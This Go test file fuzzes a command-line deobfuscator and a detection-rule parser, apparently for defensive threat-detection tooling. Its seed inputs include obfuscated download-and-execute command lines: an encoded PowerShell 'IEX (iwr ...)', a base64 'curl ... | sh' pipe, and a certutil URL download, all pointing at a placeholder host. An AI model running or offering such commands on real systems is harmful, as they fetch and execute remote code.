package cmdline

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzDeobfuscate checks that any input gives the original as layer 0 and
// layers within the bounds, without panicking.
func FuzzDeobfuscate(f *testing.F) {
	for _, s := range []string{
		"powershell -enc " + utf16Base64("IEX (iwr http://x/a)"),
		"p^o^w^e^r^s^h^e^l^l -e^c " + utf16Base64("whoami"),
		`powershell ("{1}{0}" -f 'ject','New-Ob')`,
		`powershell [char[]](73,69,88) -join ''`,
		`echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh`,
		`c"e"r"t"u"t"i"l -urlcache http%3A%2F%2Fx`,
		"\xff\xfe\x00",
	} {
		f.Add(s)
	}
	opts := DeobfuscateOptions{MaxInput: 4096, MaxLayerSize: 16 << 10}
	f.Fuzz(func(t *testing.T, cmd string) {
		layers := Deobfuscate(cmd, opts)
		if len(layers) == 0 || len(layers) > 12 {
			t.Fatalf("%d layers", len(layers))
		}
		if layers[0].Technique != TechOriginal || !strings.HasPrefix(cmd, layers[0].Text) {
			t.Fatalf("layer 0 is not the original: %+v", layers[0])
		}
		for i, l := range layers[1:] {
			if l.From < 0 || l.From > i || l.Depth < 1 || l.Depth > 4 {
				t.Fatalf("layer %d: from %d depth %d", i+1, l.From, l.Depth)
			}
			if len(l.Text) > opts.MaxLayerSize || !utf8.ValidString(l.Text) {
				t.Fatalf("layer %d: %d bytes, valid UTF-8 %v", i+1, len(l.Text), utf8.ValidString(l.Text))
			}
		}
	})
}

// FuzzLoadRule checks that parsing any rule text and evaluating what
// parses never panics.
func FuzzLoadRule(f *testing.F) {
	files, _ := filepath.Glob(filepath.Join("rules", "*.yml"))
	for _, p := range files[:min(len(files), 8)] {
		if b, err := os.ReadFile(p); err == nil {
			f.Add(b)
		}
	}
	f.Add([]byte("title: t\nlogsource:\n  category: process_creation\ndetection:\n  selection_1_a:\n    CommandLine|contains|windash: ' -x '\n  condition: 1 of selection_1_*\n"))
	f.Add([]byte("title: t\nlogsource:\n  category: process_creation\ndetection:\n  s:\n    CommandLine|base64offset|contains: 'x'\n    User|fieldref: ParentUser\n    Image: null\n  condition: s | count() > 1\n"))
	ev := BuildEvent(Input{CommandLine: `powershell -enc SQBFAFgA /c C:\Users\Public\a.exe http://x`, ParentCommandLine: "cmd /c x", User: "bob"})
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := ParseRule(data, "fuzz.yml")
		if err != nil {
			if r != nil {
				t.Fatal("rule and error both returned")
			}
			return
		}
		set := NewRuleSet([]*Rule{r})
		set.Match(ev, "")
		set.Match(Event{}, OSLinux)
	})
}
